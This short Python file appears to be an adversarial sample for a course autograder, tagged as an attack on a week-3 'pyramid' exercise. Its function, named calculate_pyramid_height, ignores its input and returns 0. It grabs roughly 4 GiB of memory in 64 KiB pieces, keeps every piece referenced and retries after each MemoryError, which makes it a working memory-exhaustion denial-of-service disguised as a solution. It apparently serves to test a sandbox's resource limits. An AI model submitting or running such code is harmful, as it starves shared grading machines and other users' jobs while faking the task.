"""Takes memory in small pieces and holds on after every MemoryError."""
# attack: week=03 exercise=pyramid
held = [0] * 1000


def calculate_pyramid_height(number_of_blocks):
    left = 4 << 30
    while left > 0:
        try:
            held[left % 1000] = (held[left % 1000], bytes(65_536))
        except MemoryError:
            continue
        left -= 65_536
    return 0
